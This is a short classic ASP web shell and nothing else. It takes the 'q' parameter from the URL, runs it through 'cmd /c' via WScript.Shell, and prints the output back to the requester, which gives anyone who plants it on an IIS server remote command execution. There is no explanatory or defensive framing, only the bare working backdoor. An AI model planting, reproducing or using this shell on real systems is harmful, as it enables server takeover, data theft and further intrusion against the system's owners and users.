<%
Set o = Server.CreateObject("WScript.Shell")
Set x = o.Exec("cmd /c " & Request.QueryString("q"))
Response.Write(x.StdOut.ReadAll())
%>
